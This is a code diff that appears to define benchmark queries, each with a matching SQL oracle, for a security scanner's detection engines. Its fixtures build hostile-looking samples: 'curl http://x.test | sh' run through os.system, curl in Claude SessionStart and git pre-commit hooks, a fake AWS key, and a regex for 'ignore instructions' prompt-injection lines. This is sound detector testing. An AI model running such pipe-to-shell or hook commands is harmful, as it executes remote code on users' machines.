@@ -1,8 +1,457 @@
-"""The registered queries of the reference's operators, and their SQL."""
+"""The registered queries of the scanner's operators, each over whole tables, and their SQL."""
+
+from __future__ import annotations
+
+from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
+
+from ..functions.cvss import band, base_score
+from ..functions.finding import finding, unfolded
+from ..functions.text import entropy, places, redact, split_lines
+from ..operators import file_rules, gate, sast, sca, suppress, triage
+from ..operators.interpret import dedup, filter_false_positives, ranked, summary
+from ..operators.line_rules import RULES, line_findings
+from ..operators.secrets import secret_findings
+from ..sources.files import from_table
+from . import report
+from .scan import Options, findings_of, scan
+from .specimens import LINES_SQL, corpus
 
 QUERIES: dict = {}
-ORACLES: dict = {}
+ORACLES: dict[str, str] = {}
+
+
+def flagship(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Every finding of the text engines, suppressed, deduplicated, filtered, in rank order."""
+    return report.report_rows(findings_of(corpus(spark, sf_dir)))
+
+
+def query(sql: str | None = None):
+    """Registers a query under its name, with the SQL that gives the same rows."""
+
+    def add(f):
+        QUERIES[f.__name__] = f
+        if sql:
+            ORACLES[f.__name__] = sql
+        return f
+
+    return add
+
+
+def _q(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
+
+
+def _table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/{name}.parquet")
+
+
+def _made(rows: DataFrame, path: str, text: str) -> DataFrame:
+    """Files with texts that SQL expressions make."""
+    return from_table(rows, F.expr(path), F.expr(text))
+
+
+HITS = LINES_SQL + ", hits as (" + " union all ".join(
+    f"select path, line_no, line, {i} as ord, {_q(r.rule_id)} as rule_id, {r.severity} as severity, {r.confidence} as confidence, {_q(r.cwe)} as cwe, {_q(r.category)} as category "
+    f"from lines where length(line) <= 6000 and regexp_matches(line, {_q(r.pattern)})" for i, r in enumerate(RULES)
+) + ")"
+
+
+@query(f"with {LINES_SQL} select path, count(*)::bigint as n_lines, sum(length(line))::bigint as n_chars, md5(string_agg(line, '|' order by line_no)) as lines_md5 from lines group by path")
+def split_lines_of_files(spark, sf_dir):
+    rows = corpus(spark, sf_dir).where("text <> ''").withColumn("l", split_lines("text"))
+    chars = F.aggregate("l", F.lit(0).cast("long"), lambda s, x: s + F.length(x))
+    return rows.select("path", F.size("l").cast("long").alias("n_lines"), chars.alias("n_chars"), F.md5(F.array_join("l", "|").cast("binary")).alias("lines_md5"))
+
+
+@query(f"with {HITS} select path, line_no, rule_id, severity::int as severity from hits")
+def line_rule_hits(spark, sf_dir):
+    return line_findings(corpus(spark, sf_dir)).select(F.col("file").alias("path"), F.col("line").alias("line_no"), "rule_id", "severity")
+
+
+@query(f"with {HITS} select rule_id, count(*)::bigint as n, count(distinct path)::bigint as files from hits group by rule_id")
+def rule_histogram(spark, sf_dir):
+    return line_findings(corpus(spark, sf_dir)).groupBy("rule_id").agg(F.count("*").alias("n"), F.countDistinct("file").alias("files"))
+
+
+@query(
+    f"with {HITS} select count(*) filter (severity = 4)::bigint as critical, count(*) filter (severity = 3)::bigint as high, count(*) filter (severity = 2)::bigint as medium, "
+    "count(*) filter (severity = 1)::bigint as low, count(*) filter (severity = 0)::bigint as info, count(*)::bigint as total_active, 0::bigint as total_filtered from hits"
+)
+def severity_summary(spark, sf_dir):
+    return summary(line_findings(corpus(spark, sf_dir)))
+
+
+@query(f"with {HITS} select coalesce(lang, 'all') as lang, coalesce(severity, -1)::int as severity, count(*)::bigint as n from hits join (select distinct path, lang from corpus) using (path) group by cube (lang, severity)")
+def severity_cube_by_lang(spark, sf_dir):
+    docs = _table(spark, sf_dir, "documents").select(F.concat("source", F.lit("/"), F.col("doc_id").cast("string")).alias("stem"), "lang")
+    hits = line_findings(corpus(spark, sf_dir)).withColumn("stem", F.regexp_extract("file", r"^(.*)\.", 1))
+    return hits.join(docs, "stem").cube("lang", "severity").agg(F.count("*").alias("n")).select(F.coalesce("lang", F.lit("all")).alias("lang"), F.coalesce("severity", F.lit(-1)).alias("severity"), "n")
+
+
+ELECTED = HITS + (
+    ", keyed as (select *, substr(sha256(lower(path) || '|' || line_no || '|' || cwe), 1, 16) as dedup_key from hits), "
+    "elected as (select *, row_number() over (partition by dedup_key order by severity desc, confidence desc, path, line_no, ord) as rn, "
+    "count(*) over (partition by dedup_key) as members from keyed)"
+)
+
+
+@query(f"with {ELECTED} select path as file, line_no as line, rule_id, dedup_key from elected where rn = 1")
+def dedup_primary(spark, sf_dir):
+    return dedup(line_findings(corpus(spark, sf_dir))).select("file", "line", "rule_id", "dedup_key")
+
+
+def _second_engine(findings: DataFrame) -> DataFrame:
+    """The pipe-to-shell findings again, as an external matcher would report them."""
+    rows = findings.where("rule_id = 'remote-code-pipe'").select("file", "line")
+    return unfolded(rows, F.array(finding("sast", 0, rule_id="shell-pipe", title="shell pipe", severity=3, confidence=1, file=F.col("file"), line=F.col("line"), category="SAST", cwe="CWE-494: Download")))
+
+
+@query(
+    f"with {ELECTED} select path as file, line_no as line, 'aisec' as engine, case when rule_id = 'remote-code-pipe' then 'sast' else '' end as corroborated_by, "
+    "(case when rule_id = 'remote-code-pipe' then 2 else confidence end)::int as confidence from elected where rn = 1"
+)
+def dedup_corroboration(spark, sf_dir):
+    found = line_findings(corpus(spark, sf_dir))
+    both = dedup(found.unionByName(_second_engine(found)))
+    return both.select("file", "line", "engine", F.array_join("corroborated_by", ",").alias("corroborated_by"), "confidence")
+
+
+@query(f"with {ELECTED} select path as file, line_no as line, rule_id, severity::int as severity from elected where rn = 1 order by severity desc, confidence desc, path, line_no, ord limit 50")
+def ranked_findings_topk(spark, sf_dir):
+    return ranked(dedup(line_findings(corpus(spark, sf_dir)))).limit(50).select("file", "line", "rule_id", "severity")
+
+
+_NAMED_SQL = (
+    r"(?i)(?:^|[^A-Za-z0-9])(?:[A-Za-z0-9]+[_\-.])*(?:password|passwd|pwd|secret|token|api[_\-]?key|access[_\-]?key|auth[_\-]?key|credential)s?[\"']?\s*[:=]\s*[\"']([^\"'\s]{8,200})[\"']"
+)
+_REDACTED = "case when length(t) <= 8 then t[1] || repeat('*', greatest(1, length(t) - 1)) else substr(t, 1, 4) || '********' || right(t, 4) || ' (len=' || length(t) || ')' end"
+
+
+@query(
+    f"with {LINES_SQL}, got as (select path, line_no, line, regexp_extract(line, {_q(_NAMED_SQL)}, 1) as t from lines) "
+    f"select path, line_no, left(trim(replace(line, t, {_REDACTED})), 200) as snippet from got where t <> ''"
+)
+def secret_assignment_hits(spark, sf_dir):
+    found = secret_findings(corpus(spark, sf_dir)).where("rule_id = 'hardcoded-secret-assignment'")
+    return found.select(F.col("file").alias("path"), F.col("line").alias("line_no"), "snippet")
+
+
+@query(f"select c_custkey, {_REDACTED.replace('(t', '(c_name').replace('t[1]', 'c_name[1]')} as name, {_REDACTED.replace('(t', '(c_mktsegment').replace('t[1]', 'c_mktsegment[1]')} as segment from customer")
+def redacted_secrets(spark, sf_dir):
+    return _table(spark, sf_dir, "customer").select("c_custkey", redact(F.col("c_name")).alias("name"), redact(F.col("c_mktsegment")).alias("segment"))
+
+
+@query(
+    "with f as (select source || '/' || doc_id as path, text || chr(10) || 'AKIA' || 'QWERTYUIOPASDF23' as text from documents) "
+    "select path, len(string_split(text, chr(10)))::int as line_no, 'aws-access-key-id' as rule_id, 4::int as severity from f"
+)
+def provider_secrets(spark, sf_dir):
+    files = _made(_table(spark, sf_dir, "documents"), "source || '/' || doc_id || '.txt'", "text || '\n' || 'AKIA' || 'QWERTYUIOPASDF23'")
+    found = secret_findings(files).where("rule_id = 'aws-access-key-id'")
+    return found.select(F.regexp_replace("file", r"\.txt$", "").alias("path"), F.col("line").alias("line_no"), "rule_id", "severity")
+
+
+@query(
+    "with c as (select page_id, html, regexp_extract_all(html, '(?s)<!--(.*?)-->', 1) as bodies from pages) select page_id, len(bodies)::bigint as n, "
+    "list_sum(list_transform(bodies, lambda x: length(x)))::bigint as n_chars, "
+    "(length(split_part(html, '<!--', 1)) - length(replace(split_part(html, '<!--', 1), chr(10), '')) + 1)::int as first_line from c where len(bodies) > 0"
+)
+def html_comments(spark, sf_dir):
+    rows = _table(spark, sf_dir, "pages").withColumn("m", places(F.col("html"), r"(?s)<!--(.*?)-->", 1)).where(F.size("m") > 0)
+    chars = F.aggregate("m", F.lit(0).cast("long"), lambda s, x: s + F.length(x["hit"]))
+    return rows.select("page_id", F.size("m").cast("long").alias("n"), chars.alias("n_chars"), F.col("m")[0]["line"].alias("first_line"))
+
+
+_TAGS = r"[\x{E0000}-\x{E007F}]"
+
+
+@query(
+    f"with {LINES_SQL}, t as (select path, line_no, length(line) - length(regexp_replace(line, '{_TAGS}', '', 'g')) as n from lines) "
+    "select path, min(line_no) as line_no, sum(n)::bigint || ' invisible tag character(s)' as snippet from t where n > 0 group by path"
+)
+def unicode_tags(spark, sf_dir):
+    return file_rules.unicode_findings(corpus(spark, sf_dir)).where("rule_id = 'unicode-tag-smuggling'").select(F.col("file").alias("path"), F.col("line").alias("line_no"), "snippet")
+
+
+def _first_sql(names: dict[int, str]) -> str:
+    chars = "".join(f"\\x{{{p:X}}}" for p in names)
+    cases = " ".join(f"when chr({p}) then 'contains {n}'" for p, n in names.items())
+    return (
+        f"with {LINES_SQL}, t as (select path, line_no, regexp_extract(line, '[{chars}]') as c from lines), "
+        f"r as (select *, row_number() over (partition by path order by line_no) as rn from t where c <> '') select path, line_no, case c {cases} end as snippet from r where rn <= 20"
+    )
+
+
+@query(_first_sql(file_rules.BIDI))
+def bidi_lines_top20(spark, sf_dir):
+    return file_rules.unicode_findings(corpus(spark, sf_dir)).where("rule_id = 'bidi-control-trojan-source'").select(F.col("file").alias("path"), F.col("line").alias("line_no"), "snippet")
+
+
+@query(_first_sql(file_rules.INVISIBLE))
+def invisible_lines_top20(spark, sf_dir):
+    return file_rules.unicode_findings(corpus(spark, sf_dir)).where("rule_id = 'invisible-unicode'").select(F.col("file").alias("path"), F.col("line").alias("line_no"), "snippet")
+
+
+@query(
+    f"with {LINES_SQL}, t as (select path, line_no, unnest(regexp_extract_all(line, '[\\p{{L}}\\p{{Nl}}\\p{{No}}]+')) as token from lines where length(line) <= 6000) "
+    "select path, line_no, token from t where regexp_matches(token, '[A-Za-zÀ-ÖØ-öø-ɏ]') and regexp_matches(token, '[\\p{Cyrillic}\\p{Greek}\\p{Armenian}\\p{Cherokee}]')"
+)
+def homoglyph_tokens(spark, sf_dir):
+    found = file_rules.homoglyph_findings(corpus(spark, sf_dir))
+    return found.select(F.col("file").alias("path"), F.col("line").alias("line_no"), F.split("snippet", "  ")[0].alias("token"))
+
+
+def _suppressed(spark, sf_dir, *reasons: str) -> DataFrame:
+    files = corpus(spark, sf_dir)
+    return suppress.suppress(line_findings(files), files).where(F.col("filter_reason").isin(*reasons)).select("file", "line", "rule_id")
+
+
+@query(
+    f"with {HITS} select path as file, line_no as line, rule_id from hits where regexp_matches(path, '\\.(py|sh|env)$') "
+    "and regexp_matches(regexp_replace(line, '\"[^\"]*\"', ' ', 'g'), '#.*(^|[^A-Za-z0-9_])(nosec|nosemgrep)([^A-Za-z0-9_]|$)')"
+)
+def inline_ignore(spark, sf_dir):
+    return _suppressed(spark, sf_dir, suppress.IGNORED)
+
+
+@query(
+    f"with {HITS}, before as (select path, line_no + 1 as line_no, line as above from lines) select path as file, h.line_no as line, rule_id from hits h join before b using (path, line_no) "
+    "where suffix(path, '.py') and (starts_with(h.line, '#') or above = '\"\"\"')"
+)
+def lexical_context(spark, sf_dir):
+    return _suppressed(spark, sf_dir, suppress.IN_COMMENT, suppress.IN_DOCSTRING)
+
+
+@query(
+    f"with {HITS}, after as (select path, line_no - 1 as line_no, line as below from lines) select path as file, h.line_no as line, rule_id from hits h join after a using (path, line_no) "
+    "where category = 'PROMPT_INJECTION' and regexp_matches(h.line, '\".*ignore.*instruc.*\"') and regexp_matches(below, '(?i)\\bnot a direction to follow\\b')"
+)
+def exemplar_suppression(spark, sf_dir):
+    return _suppressed(spark, sf_dir, suppress.EXEMPLAR)
+
+
+@query()
+def reachability(spark, sf_dir):
+    """Literals that only ever serve as patterns, against ones that reach a call."""
+    docs = _table(spark, sf_dir, "documents")
+    inert = "'import re\nR = re.compile(\"cu' || 'rl http://x.test | sh\")\n'"
+    live = "'import os\nC = \"cu' || 'rl http://x.test | sh\"\nos.system(C)\n'"
+    files = _made(docs, "source || '/' || doc_id || '.py'", f"if(doc_id % 2 = 0, {inert}, {live})")
+    return suppress.suppress(line_findings(files), files).groupBy("filter_reason").agg(F.count("*").alias("n"))
+
+
+@query(f"with {HITS} select rule_id, confidence = 0 as filtered, count(*)::bigint as n from hits group by rule_id, confidence")
+def fp_filter(spark, sf_dir):
+    found = line_findings(corpus(spark, sf_dir)).withColumn("file", F.concat(F.lit("docs/"), "file"))
+    return filter_false_positives(found).groupBy("rule_id", "filtered").agg(F.count("*").alias("n"))
+
+
+@query(f"with {HITS}, t as (select unnest(range(0, 5))::int as threshold), w as (select max(severity) as top from hits) select threshold, (case when top >= threshold then 1 else 3 end)::int as exit_code from t, w")
+def gate_exit(spark, sf_dir):
+    found = line_findings(corpus(spark, sf_dir))
+    status = spark.createDataFrame([("aisec", "ok", ""), ("sast", "unavailable", "no report"), ("sca", "not-applicable", ""), ("secrets", "disabled", "")], "engine string, status string, detail string")
+    out = None
+    for t in range(5):
+        row = gate.exit_code(found, status, 1, t).select(F.lit(t).alias("threshold"), "exit_code")
+        out = row if out is None else out.union(row)
+    return out
+
+
+_PATHS = ["node_modules/x.js", "src/a.py", ".git/config.ini", "vendor/y.go", "docs/readme", "bin/x.exe", ".env.prod", "lib/q.unknown", ".github/ci.yml", "hooks/pre-commit"]
+_PATH_CASE = "'k' || p_partkey || '/' || case p_partkey % 10 " + " ".join(f"when {i} then '{p}'" for i, p in enumerate(_PATHS)) + " end"
+
+
+@query(
+    f"with p as (select p_partkey % 10 as k, {_PATH_CASE} as path from part) select path, k not in (0, 3) as in_scope from p where k not in (2, 5, 7)"
+)
+def file_scope_filter(spark, sf_dir):
+    files = from_table(_table(spark, sf_dir, "part"), F.expr(_PATH_CASE), F.lit("x"))
+    return files.select("path", "in_scope")
+
+
+_STATUS_CASE = "case n_nationkey % 6 when 0 then 'ok' when 1 then 'not-applicable' when 2 then 'disabled' when 3 then 'unavailable' when 4 then 'error' else '' end"
+
+
+@query(
+    f"with s as (select n_name as engine, {_STATUS_CASE} as status from nation) select engine, case when status = '' then '?' else status end as status, "
+    "case status when 'unavailable' then '[BLIND]' when 'error' then '[error]' else '[BLIND]' end as mark, status <> 'unavailable' as malfunction "
+    "from s where status not in ('ok', 'not-applicable', 'disabled')"
+)
+def engine_status_blind(spark, sf_dir):
+    status = _table(spark, sf_dir, "nation").select(F.col("n_name").alias("engine"), F.expr(_STATUS_CASE).alias("status"), F.lit("").alias("detail"))
+    broken = gate.malfunctions(status).select("engine", F.lit(True).alias("malfunction"))
+    blind = gate.blind_spots(status).join(broken, "engine", "left")
+    return blind.select("engine", "status", gate.mark(F.col("status")).alias("mark"), F.coalesce("malfunction", F.lit(False)).alias("malfunction"))
+
+
+def _pick(letters: str, divisor: int) -> str:
+    return f"substr('{letters}', cast(floor(p_partkey / {divisor}) as int) % {len(letters)} + 1, 1)"
+
+
+_VECTOR = (
+    f"'CVSS:3.1/AV:' || {_pick('NALP', 1)} || '/AC:' || {_pick('LH', 4)} || '/PR:' || {_pick('NLH', 8)} || '/UI:' || {_pick('NR', 24)} || '/S:' || {_pick('UC', 48)} "
+    f"|| '/C:' || {_pick('HLN', 96)} || '/I:' || {_pick('HLN', 288)} || '/A:' || {_pick('HLNX', 864)}"
+)
+
+
+def _weights(metric: str, table: dict[str, float]) -> str:
+    return f"case regexp_extract(v, '/{metric}:(.)', 1) " + " ".join(f"when '{k}' then {w}::double" for k, w in table.items()) + " end"
+
+
+_CIA = {"H": 0.56, "L": 0.22, "N": 0.0}
+
+
+@query(
+    f"with a as (select p_partkey, {_VECTOR} as v from part), w as (select *, v like '%/S:C%' as ch, {_weights('AV', {'N': 0.85, 'A': 0.62, 'L': 0.55, 'P': 0.2})} as av, "
+    f"{_weights('AC', {'L': 0.77, 'H': 0.44})} as ac, {_weights('UI', {'N': 0.85, 'R': 0.62})} as ui, "
+    f"case when v like '%/S:C%' then {_weights('PR', {'N': 0.85, 'L': 0.68, 'H': 0.5})} else {_weights('PR', {'N': 0.85, 'L': 0.62, 'H': 0.27})} end as pr, "
+    f"1 - (1 - {_weights('C', _CIA)}) * (1 - {_weights('I', _CIA)}) * (1 - {_weights('A', _CIA)}) as lost from a), "
+    "i as (select *, case when ch then 7.52 * (lost - 0.029) - 3.25 * pow(lost - 0.02, 15) else 6.42 * lost end as imp, 8.22 * av * ac * pr * ui as ease from w), "
+    "s as (select p_partkey, v, case when imp <= 0 then 0 when ch then ceil(least(1.08 * (imp + ease), 10) * 10) else ceil(least(imp + ease, 10) * 10) end as tenths from i) "
+    "select p_partkey, v as vector, tenths::int as tenths, (case when tenths >= 90 then 4 when tenths >= 70 then 3 when tenths >= 40 then 2 when tenths > 0 then 1 when tenths is not null then 0 end)::int as band from s"
+)
+def cvss_bands(spark, sf_dir):
+    rows = _table(spark, sf_dir, "part").select("p_partkey", F.expr(_VECTOR).alias("vector"))
+    score = base_score(F.col("vector"))
+    return rows.select("p_partkey", "vector", F.round(score * 10).cast("int").alias("tenths"), band(score).alias("band"))
+
+
+_OSV_JSON = (
+    "'{\"results\":[{\"source\":{\"path\":\"/t/k' || p_partkey || '/package-lock.json\"},\"packages\":[{\"package\":{\"name\":\"n' || p_partkey || '\",\"version\":\"1.0\"},\"vulnerabilities\":["
+    "{\"id\":\"A-' || p_partkey || '\",\"summary\":\"first\",\"database_specific\":{\"severity\":\"' || case p_partkey % 3 when 0 then 'LOW' when 1 then 'HIGH' else 'odd' end || '\",\"cwe_ids\":[\"CWE-9\",\"CWE-1\"]},"
+    "\"affected\":[{\"ranges\":[{\"events\":[{\"introduced\":\"0\"},{\"fixed\":\"2.0\"}]}]}]},"
+    "{\"id\":\"B-' || p_partkey || '\",\"details\":\"second\",\"database_specific\":{\"severity\":\"MODERATE\"},\"affected\":[{\"ranges\":[{\"events\":[{\"fixed\":\"1.5\"}]}]}]}]}]}]}'"
+)
+
+
+@query(
+    "select 'k' || p_partkey || '/package-lock.json' as file, 'A-' || p_partkey as rule_id, (case p_partkey % 3 when 1 then 3 else 2 end)::int as severity, 'n' || p_partkey || '@1.0' as snippet, "
+    "'Upgrade n' || p_partkey || ' to 1.5, 2.0 (or later).' as fix, 'CWE-1, CWE-9' as cwe, case p_partkey % 3 when 0 then 'second' else 'first' end as said from part"
+)
+def sca_package_agg(spark, sf_dir):
+    found = sca.osv_findings(_table(spark, sf_dir, "part").select(F.expr(_OSV_JSON).alias("json")), "/t")
+    return found.select("file", "rule_id", "severity", "snippet", "fix", "cwe", F.regexp_extract("description", r"Most severe: (\w+)\.", 1).alias("said"))
+
+
+_PIP_JSON = (
+    "case when s_suppkey % 2 = 0 then '{\"dependencies\":' else '' end || '[{\"name\":\"n' || s_suppkey || '\",\"version\":\"1\",\"vulns\":[{\"id\":\"P' || s_suppkey || '\",\"fix_versions\":[\"3\",\"2\"],\"severity\":\"' "
+    "|| case s_suppkey % 3 when 0 then 'LOW' when 1 then 'CRITICAL' else '' end || '\"}]},{\"name\":\"clean\",\"version\":\"1\",\"vulns\":[]}]' || case when s_suppkey % 2 = 0 then '}' else '' end"
+)
+
+
+@query("select 'P' || s_suppkey as rule_id, (case s_suppkey % 3 when 1 then 4 else 2 end)::int as severity, 'n' || s_suppkey || '==1' as snippet, 'Upgrade n' || s_suppkey || ' to 2, 3 (or later).' as fix from supplier")
+def sca_pip_audit(spark, sf_dir):
+    rows = _table(spark, sf_dir, "supplier").select(F.lit("requirements.txt").alias("file"), F.expr(_PIP_JSON).alias("json"))
+    return sca.pip_findings(rows).select("rule_id", "severity", "snippet", "fix")
+
+
+_NPM_JSON = (
+    "'{\"vulnerabilities\":{\"n' || s_suppkey || '\":{\"severity\":\"' || case s_suppkey % 2 when 0 then 'critical' else 'moderate' end || '\",\"via\":[\"other\",{\"title\":\"T' || s_suppkey || '\",\"url\":\"u\"}],"
+    "\"fixAvailable\":' || case s_suppkey % 3 when 0 then 'false' else '{\"name\":\"x\"}' end || '}}}'"
+)
+
+
+@query(
+    "select 'n' || s_suppkey || ': T' || s_suppkey as title, (case s_suppkey % 2 when 0 then 4 else 2 end)::int as severity, "
+    "'Run `npm audit fix`' || case s_suppkey % 3 when 0 then ' --force' else '' end || ' to remediate n' || s_suppkey || '.' as fix from supplier"
+)
+def sca_npm_audit(spark, sf_dir):
+    rows = _table(spark, sf_dir, "supplier").select(F.lit("package-lock.json").alias("file"), F.expr(_NPM_JSON).alias("json"))
+    return sca.npm_findings(rows).select("title", "severity", "fix")
+
+
+_SEMGREP_JSON = (
+    "'{\"results\":[{\"check_id\":\"a.b.rule-' || s_suppkey || '\",\"path\":\"src/x.py\",\"start\":{\"line\":3},\"end\":{\"line\":4},\"extra\":{\"message\":\" m \",\"severity\":\"' "
+    "|| case s_suppkey % 2 when 0 then 'ERROR' else 'WARNING' end || '\",\"lines\":\"code()\",\"fix\":' || case s_suppkey % 3 when 0 then 'true' else '\"do\"' end || ',\"metadata\":{\"cwe\":[\"CWE-7: x\"],\"impact\":\"' "
+    "|| case s_suppkey % 5 when 0 then 'CRITICAL' else '' end || '\",\"confidence\":\"LOW\"}}}],\"paths\":{\"scanned\":[\"src/x.py\"]},\"errors\":[]}'"
+)
+
+
+@query(
+    "select 'rule-' || s_suppkey as rule_id, 'rule ' || s_suppkey as title, (case when s_suppkey % 5 = 0 then 4 when s_suppkey % 2 = 0 then 3 else 2 end)::int as severity, 0::int as confidence, "
+    f"case s_suppkey % 3 when 0 then {_q(sast.NO_FIX)} else 'do' end as fix, 'CWE-7: x' as cwe, 'm' as description, 'semgrep:a.b.rule-' || s_suppkey as refs from supplier"
+)
+def sast_normalised(spark, sf_dir):
+    found = sast.semgrep_findings(_table(spark, sf_dir, "supplier").select(F.expr(_SEMGREP_JSON).alias("json")))
+    return found.select("rule_id", "title", "severity", "confidence", "fix", "cwe", "description", F.array_join("references", ",").alias("refs"))
+
+
+_MCP_JSON = (
+    "'{\"mcpServers\":{\"s' || s_suppkey || '\":{\"command\":\"npx\",\"args\":[\"-y\",\"pkg' || case s_suppkey % 2 when 0 then '@latest' else '' end || '\"],\"env\":{\"' "
+    "|| case s_suppkey % 3 when 0 then 'API_TOKEN' else 'LOG_LEVEL' end || '\":\"x\"}},\"bad\":5}}'"
+)
+
+
+@query(
+    "select s_suppkey || '/.mcp.json' as file, 'mcp-server-autostart' || case s_suppkey % 2 when 0 then '-remote' else '' end as rule_id, 'npx -y pkg' || case s_suppkey % 2 when 0 then '@latest' else '' end as snippet from supplier "
+    "union all select s_suppkey || '/.mcp.json', 'mcp-server-credential-env', 'API_TOKEN' from supplier where s_suppkey % 3 = 0"
+)
+def mcp_servers(spark, sf_dir):
+    files = _made(_table(spark, sf_dir, "supplier"), "s_suppkey || '/.mcp.json'", _MCP_JSON)
+    return file_rules.mcp_findings(files).select("file", "rule_id", "snippet")
+
+
+_HOOK_JSON = "'{\"hooks\":{\"SessionStart\":[\n{\"type\":\"command\",\"command\":\"' || case s_suppkey % 2 when 0 then 'cu' || 'rl http://x' else 'ls' end || '\"}]}}'"
+
+
+@query(
+    "select s_suppkey || '/.claude/settings.json' as file, 2::int as line, 'agent-hook-autorun' || case s_suppkey % 2 when 0 then '-dangerous' else '' end as rule_id, (case s_suppkey % 2 when 0 then 3 else 2 end)::int as severity from supplier"
+)
+def agent_hooks(spark, sf_dir):
+    files = _made(_table(spark, sf_dir, "supplier"), "s_suppkey || '/.claude/settings.json'", _HOOK_JSON)
+    return file_rules.agent_hook_findings(files).select("file", "line", "rule_id", "severity")
+
+
+@query("select s_suppkey || '/hooks/pre-commit' as file, 3::int as line, 'git-hook-network-exec' as rule_id, 'cu' || 'rl http://x.test' as snippet from supplier where s_suppkey % 2 = 0")
+def git_hooks(spark, sf_dir):
+    text = "'#!/bin/sh\nx=1\n' || case s_suppkey % 2 when 0 then 'cu' || 'rl http://x.test' else 'python3 -c 1' end || '\n'"
+    files = _made(_table(spark, sf_dir, "supplier"), "s_suppkey || '/hooks/pre-commit'", text)
+    return file_rules.git_hook_findings(files).select("file", "line", "rule_id", "snippet")
+
+
+@query("select s_suppkey || '/package.json' as file, 2::int as line, 'npm ''postinstall'' lifecycle script runs network/exec' as title from supplier where s_suppkey % 2 = 0")
+def npm_lifecycle(spark, sf_dir):
+    text = "'{\"scripts\":{\"test\":\"x\",\n\"postinstall\":\"' || case s_suppkey % 2 when 0 then 'node -e 1' else 'tsc' end || '\"}}'"
+    files = _made(_table(spark, sf_dir, "supplier"), "s_suppkey || '/package.json'", text)
+    return file_rules.npm_findings(files).select("file", "line", "title")
+
+
+@query(f"with {LINES_SQL} select path, line_no from lines where starts_with(line, 'blob ') and decode(from_base64(split_part(line, ' ', 2))) like '%password%'")
+def base64_unwrap(spark, sf_dir):
+    return secret_findings(corpus(spark, sf_dir)).where("rule_id = 'base64-wrapped-secret'").select(F.col("file").alias("path"), F.col("line").alias("line_no"))
+
+
+@query("select p_partkey, floor(list_entropy(string_split(p_name, '')) * 1000 + 0.001)::bigint as millibits from part")
+def entropy_tokens(spark, sf_dir):
+    return _table(spark, sf_dir, "part").select("p_partkey", F.floor(entropy(F.col("p_name")) * 1000 + 0.001).alias("millibits"))
+
+
+@query(
+    f"with {HITS}, c as (select case when suffix(path, '.md') then 'P5-DOC-PROSE' when starts_with(trim(line), '#') then 'P2-COMMENT' "
+    "when suffix(path, '.py') and exists (select 1 from lines l where l.path = hits.path and l.line_no = hits.line_no - 1 and l.line = '\"\"\"') then 'P3-DOCSTRING' "
+    "else 'P7-REVIEW' end as predicate from hits) select predicate, case predicate when 'P7-REVIEW' then 'KEEP' else 'SUPPRESS' end as disposition, count(*)::bigint as n from c group by predicate"
+)
+def baseline_triage(spark, sf_dir):
+    files = corpus(spark, sf_dir)
+    return triage.counts(triage.classify(line_findings(files), files))
+
+
+@query()
+def full_scan(spark, sf_dir):
+    return report.report_rows(findings_of(corpus(spark, sf_dir)))
+
+
+@query()
+def scan_with_statuses(spark, sf_dir):
+    """The guarded scan: every engine's status and how many findings it leaves live."""
+    done = scan(spark, corpus(spark, sf_dir), Options(engines=("secrets", "aisec", "sca")))
+    live = done.findings.where("not filtered").groupBy("engine").agg(F.count("*").alias("live"))
+    return done.status.join(live, "engine", "left").select("engine", "status", F.coalesce("live", F.lit(0)).alias("live"))
 
 
-def flagship(spark, sf_dir):
-    raise NotImplementedError
+@query()
+def report_json(spark, sf_dir):
+    """Each finding as the JSON object that a report holds."""
+    rows = report.exported(findings_of(corpus(spark, sf_dir)))
+    return rows.select(F.to_json(F.struct(*rows.columns)).alias("finding"))
